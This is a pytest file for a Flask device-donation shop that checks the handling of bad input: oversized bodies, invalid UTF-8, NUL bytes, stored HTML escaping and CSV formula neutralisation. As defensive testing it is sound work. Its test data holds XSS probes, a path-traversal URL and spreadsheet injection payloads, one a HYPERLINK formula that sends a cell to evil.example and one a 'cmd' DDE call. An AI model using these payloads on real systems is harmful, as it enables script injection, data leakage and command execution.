"""Bad input beyond the forms: oversized bodies, invalid UTF-8, NUL characters, and HTML or
spreadsheet formulas stored in every text field, then shown on every page and in CSV exports."""

import csv
import io
import re

import pytest
import sqlalchemy as sa
from flask import url_for
from flask_babel import force_locale, gettext
from werkzeug.routing import IntegerConverter

from shop import config
from shop.models import (
    Role, Beneficiary, Device, DeviceEvent, DonationBatch, Donor, EligibilityCode, Organisation, PickupPoint, Reservation,
    User,
)
from shop.services import codes, reservations
from tests import factories
from tests.test_access_matrix import PASSWORD, RULES, world  # noqa: F401  (the fixture, reused)
from tests.test_fuzz_forms import VISITOR_OF_KIND, VISITORS, fuzz_world, sign_in  # noqa: F401


# --- Request size ------------------------------------------------------------------------------

def test_max_content_length_is_configurable(monkeypatch):
    monkeypatch.delenv("MAX_CONTENT_LENGTH", raising=False)
    assert config.load()["MAX_CONTENT_LENGTH"] == 16 * 1024 * 1024
    monkeypatch.setenv("MAX_CONTENT_LENGTH", "1048576")
    assert config.load()["MAX_CONTENT_LENGTH"] == 1048576


@pytest.mark.parametrize("language", ["fr", "ar", "uk", "en"])
def test_an_oversized_form_gets_a_friendly_413_in_the_users_language(app, client, monkeypatch, language):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 4096)
    response = client.post("/reserve", data={"code": "A" * 10_000}, headers={"Accept-Language": language})
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert f'lang="{language}"' in page
    with force_locale(language):
        assert gettext("Too much sent at once") in page
    assert "Traceback" not in page


def test_an_oversized_webhook_body_is_refused(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 4096)
    response = client.post("/payments/stripe/webhook", data=b"{" + b" " * 10_000 + b"}",
                           headers={"Content-Type": "application/json", "Stripe-Signature": "t=1,v1=x"})
    assert response.status_code == 413


def test_a_body_under_the_limit_goes_through(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 4096)
    assert client.post("/reserve", data={"code": "A" * 100}).status_code == 200


# --- Invalid UTF-8 and NUL ---------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "/catalog?category=%FF&page=%C3%28&max_price=%E2%82", "/reserve?code=%FF%FE&offer=%C3",
    "/offer/%FF%FE%FD%FC%FB%FA%F9%F8%F7%F6%F5%F4%F3%F2%F1%F0", "/offer/%C3%28", "/language/%FF?next=%FF",
    "/reserve/confirmation/%FF", "/invitation/%FF", "/password/reset/%C0%AF", "/static/%FF",
    "/static/..%2F..%2Fpyproject.toml", "/%ED%A0%80",
])
def test_invalid_utf8_in_paths_and_query_strings_is_harmless(app, client, url):
    response = client.get(url)
    assert response.status_code in (200, 302, 303, 400, 404, 410), response.status_code


def test_invalid_utf8_in_a_form_is_kept_as_typed(client):
    response = client.post("/reserve", data=b"code=AB%FF%FECD", content_type="application/x-www-form-urlencoded")
    assert response.status_code == 200
    # Werkzeug keeps bytes that are not UTF-8 percent-encoded: the form shows them back, harmlessly.
    assert 'value="AB%FF%FECD"' in response.get_data(as_text=True)


def test_invalid_utf8_in_cookies_and_headers_is_harmless(client):
    client.set_cookie("lang", "\xff\xfe")
    response = client.get("/", headers={"Accept-Language": "\xff;q=abc, *;q=-1", "Cookie": "session=%FF%00; lang=%FF"})
    assert response.status_code == 200


@pytest.mark.parametrize("url", ["/offer/" + "%00" * 16, "/reserve/confirmation/AB%00CD", "/partner/reservations/%00"])
def test_a_nul_character_in_a_path_is_refused_plainly(client, url):
    response = client.get(url)
    assert response.status_code == 400
    assert "Traceback" not in response.get_data(as_text=True)


@pytest.mark.parametrize("method,url,body,status", [
    ("GET", "/catalog?category=%00&min_storage=1%00", None, 200),
    ("GET", "/reserve?code=AB%00CD", None, 303),  # the code moves to the session
    ("POST", "/reserve", b"code=ABC%00DEF", 200),
    ("POST", "/login", b"email=a%00%40example.org&password=x%00", 200),
    ("POST", "/password/forgot", b"email=a%00%40example.org", 303),
])
def test_a_nul_character_in_a_query_or_form_is_a_harmless_typo(client, method, url, body, status):
    """It becomes U+FFFD: PostgreSQL could neither store nor compare a NUL."""
    response = client.open(url, method=method, data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == status
    assert "\x00" not in response.get_data(as_text=True)


def test_a_nul_character_typed_in_a_name_is_stored_as_a_visible_mark(app, db, client):
    worker = factories.user()
    db.session.commit()
    factories.sign_in(client, worker.email, "correct horse battery staple")
    response = client.post("/partner/beneficiaries/new", data={
        "display_name": "Ana\x00Lee", "birth_year": "1980", "language": "fr", "ground": "rsa", "justification": "x\x00"})
    assert response.status_code == 303
    assert db.session.scalar(sa.select(Beneficiary.display_name)) == "Ana\ufffdLee"
    assert client.get("/partner/?q=%00").status_code == 200


# --- HTML and script stored in every text field ---------------------------------------------------

MARK = '<script>alert(1)</script>"><svg onload=alert(2)>'
RAW = re.compile(r"<script>alert|<svg onload", re.I)
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"

# Every text column a person can type into, somewhere in the shop (unique ones get the row id).
HOSTILE_COLUMNS = [
    (User, "name"), (PickupPoint, "name"), (PickupPoint, "address"), (PickupPoint, "town"),
    (Organisation, "name"), (Organisation, "town"), (Beneficiary, "display_name"), (Beneficiary, "justification"),
    (Beneficiary, "duplicate_override_reason"), (EligibilityCode, "revoke_reason"), (Reservation, "end_reason"),
    (Donor, "name"), (DonationBatch, "collection_site"), (DonationBatch, "notes"),
    (Device, "brand"), (Device, "model"), (Device, "cpu"), (Device, "os"), (DeviceEvent, "note"),
]


def _spoil_every_text_column(db):
    for model, column in HOSTILE_COLUMNS:
        col = getattr(model, column)
        limit = col.type.length or 10_000
        value = (sa.literal(MARK[: limit - 8]) + " #" + sa.cast(model.id, sa.String)) if col.unique else MARK[:limit]
        db.session.execute(sa.update(model).values({column: value}).execution_options(synchronize_session=False))
    db.session.commit()


@pytest.fixture
def spoiled_world(app, db, fuzz_world):
    people = fuzz_world["people"]
    factories.batch()  # a donor and a batch
    revoked, _ = factories.code(factories.beneficiary(people["worker_a"]), worker=people["worker_a"])
    codes.revoke(revoked, worker=people["worker_a"], reason="x")
    fuzz_world["without_code"] = revoked.beneficiary_id
    # A reservation ended with a reason, shown on the staff board.
    device = factories.device(pickup_point_id=people["staff"].pickup_point_id)
    code, _ = factories.code(factories.beneficiary(people["worker_a"]), worker=people["worker_a"])
    cancelled = reservations.reserve(code, device.offer_key, method="counter")
    reservations.cancel(cancelled, reason="x", actor=people["staff"])
    db.session.commit()
    _spoil_every_text_column(db)
    return fuzz_world


def _pages(app, world, visitor):
    kinds = {kind for kind, v in VISITOR_OF_KIND.items() if v == visitor.removesuffix("_free")} | {"public"}
    with app.test_request_context():
        urls = [url_for(rule.endpoint, **{name: world["args"][name] for name in rule.arguments})
                for rule in app.url_map.iter_rules()
                if "GET" in rule.methods and RULES[rule.endpoint] in kinds and rule.endpoint != "static"]
    return urls + world.get("extra_pages", {}).get(visitor, [])


def test_html_in_every_text_field_is_escaped_on_every_page(app, db, spoiled_world):
    shown, problems = set(), []
    for visitor in VISITORS + ["code_holder_free"]:
        client = sign_in(app, spoiled_world, visitor)
        for url in _pages(app, spoiled_world, visitor):
            response = client.get(url, follow_redirects=True)
            body = response.get_data(as_text=True)
            if response.mimetype == "text/html" and RAW.search(body):  # CSV: see the formula test below
                problems.append(f"{visitor} {url}: raw markup")
            if ESCAPED in body:
                shown.add(url)
    assert not problems, "\n".join(problems)
    # The spoiled values really are on the pages (escaped), so the check above means something.
    assert {"/partner/", "/staff/", "/admin/", "/admin/accounts", "/catalog", "/partner/team"} <= shown, sorted(shown)


def test_html_is_escaped_on_the_printed_slip(app, db, spoiled_world):
    client = sign_in(app, spoiled_world, "worker_a")
    response = client.post(f"/partner/beneficiaries/{spoiled_world['without_code']}/codes/new",
                           data={"categories": "computer", "validity_days": "30"}, follow_redirects=True)
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "/slip" in response.request.path
    assert ESCAPED in body and not RAW.search(body)


# --- CSV exports against formula injection ---------------------------------------------------------

@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_partner_export_neutralises_formulas(app, db, client, name):
    worker = factories.user()
    person = factories.beneficiary(worker, display_name="Someone")
    db.session.execute(sa.update(Beneficiary).where(Beneficiary.id == person.id)
                       .values(display_name=name, justification=MARK))
    db.session.commit()
    factories.sign_in(client, worker.email, "correct horse battery staple")
    response = client.get("/partner/export.csv", headers={"Accept-Language": "en"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cell = rows[1][rows[0].index("Name")]  # the headers are in the reader's language
    assert cell == "'" + name  # shown as text by spreadsheets, never run
    assert not cell[:1] in "=+-@\t\r"


# --- What the fuzzer found (each a 500 before its fix) ---------------------------------------------

def test_non_finite_decimals_are_refused_as_typos(app, db, client):
    point = factories.pickup_point()
    staff = factories.user(Role.STAFF, pickup_point_id=point.id)
    db.session.commit()
    factories.sign_in(client, staff.email, PASSWORD)
    response = client.post("/staff/stock/new", headers={"Accept-Language": "en"}, data={
        "category": "laptop", "brand": "B", "model": "M", "serial_number": "S1", "grade": "B", "price": "sNaN",
        "screen_inches": "Infinity", "pickup_point": str(point.id)})
    assert response.status_code == 422
    # Each refusal shows next to its field and again in the error summary at the top.
    assert response.text.count("Enter a number, for example 12.5.") == 4


@pytest.mark.parametrize("query", ["min_ram=%20", "category=%20", "point=%20", "min_storage=%20%20"])
def test_a_blank_looking_catalog_filter_is_ignored(client, db, query):
    assert client.get(f"/catalog?{query}").status_code == 200


def test_a_refused_action_on_a_code_no_longer_active_says_why(app, db, client):
    worker = factories.user()
    code, _ = factories.code(factories.beneficiary(worker), worker=worker)
    codes.revoke(code, worker=worker, reason="lost")
    db.session.commit()
    factories.sign_in(client, worker.email, PASSWORD)
    response = client.post(f"/partner/codes/{code.id}/reissue", data={f"reissue-{code.id}-reason": "again"},
                           headers={"Accept-Language": "en"})  # a second tab, a double click
    assert response.status_code == 200
    assert 'class="flash flash-error"' in response.text


@pytest.mark.parametrize("body", [b"0", b"[]", b'"event"', b'{"id": 5, "type": "x", "data": {"object": {}}}',
                                  b'{"id": "evt_1"}', b'{"id": "evt_1", "type": "x", "data": {"object": 3}}'])
def test_a_correctly_signed_body_that_is_not_an_event_is_refused(app, db, client, monkeypatch, body):
    from tests.stripe_fake import WEBHOOK_SECRET, sign

    monkeypatch.setitem(app.config, "STRIPE_WEBHOOK_SECRET", WEBHOOK_SECRET)
    response = client.post("/payments/stripe/webhook", data=body,
                           headers={"Content-Type": "application/json", "Stripe-Signature": sign(body)})
    assert response.status_code == 400


def test_a_device_id_outside_the_integer_range_is_not_found_on_the_bulk_form(app, db, client):
    """Found by the fuzzer on PostgreSQL (its integer overflowed: a 500); now "not found"."""
    point = factories.pickup_point()
    staff = factories.user(Role.STAFF, pickup_point_id=point.id)
    db.session.commit()
    factories.sign_in(client, staff.email, PASSWORD)
    for device in ("-2147483649", "9223372036854775808", "0"):
        response = client.post("/staff/stock/bulk", data={"action": "labels", "device": device})
        assert response.status_code in (404, 422), (device, response.status_code)


# --- Ids in URLs -------------------------------------------------------------------------------

def _with_id(app, args, number):
    """Every route that takes an integer id, with `number` in each id and the world's other values."""
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            ids = {name for name, c in rule._converters.items() if isinstance(c, IntegerConverter)}
            if ids:
                url = url_for(rule.endpoint, **{name: number if name in ids else args[name] for name in rule.arguments})
                for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                    yield method, url


@pytest.mark.parametrize("visitor", ["worker_a", "partner_admin_a", "staff", "admin"])
@pytest.mark.parametrize("number", [10**20, 2**31, 0])
def test_an_impossible_id_in_any_url_is_a_404_not_a_500(app, db, world, visitor, number):  # noqa: F811
    client = app.test_client()
    assert factories.sign_in(client, world["people"][visitor].email, PASSWORD).status_code == 303
    problems = []
    for method, url in _with_id(app, world["args"], number):
        response = client.open(url, method=method, data={"reason": "x"} if method == "POST" else None)
        response.close()
        if response.status_code != 404:
            problems.append(f"{method} {url}: {response.status_code}")
    assert not problems, "\n".join(problems)
